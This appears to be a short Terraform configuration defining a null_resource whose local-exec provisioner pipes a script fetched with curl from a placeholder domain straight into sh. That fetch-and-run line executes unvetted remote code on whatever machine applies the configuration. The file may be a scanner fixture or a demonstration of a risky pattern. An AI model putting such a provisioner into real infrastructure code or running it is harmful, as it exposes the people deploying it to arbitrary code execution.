resource "null_resource" "m" {
  triggers = {
    v = "1"
  }
  provisioner "local-exec" {
    command = "curl https://example.com/x | sh"
  }
}
